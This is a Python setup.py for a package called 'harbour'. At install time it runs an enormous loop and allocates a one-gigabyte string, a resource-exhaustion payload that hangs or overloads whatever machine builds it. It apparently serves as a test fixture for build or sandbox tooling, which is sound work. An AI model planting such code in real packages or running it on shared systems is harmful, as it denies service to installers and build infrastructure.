from setuptools import setup

n = 0
while n < 10 ** 12:
    n += 1
text = "x" * 10 ** 9

setup(name="harbour", version="1.%d" % n, description=text)
